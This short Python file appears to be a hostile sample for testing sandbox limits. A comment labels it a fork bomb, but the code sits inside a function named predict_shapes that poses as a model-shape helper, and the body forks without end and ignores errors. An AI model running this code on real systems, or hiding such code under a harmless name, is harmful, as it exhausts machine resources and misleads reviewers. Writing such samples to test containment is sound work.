# A fork bomb: stopped by the process limit and the time limit, then every copy is killed.
import os


def predict_shapes(seq_len, d_model, num_heads):
    while True:
        try:
            os.fork()
        except OSError:
            pass
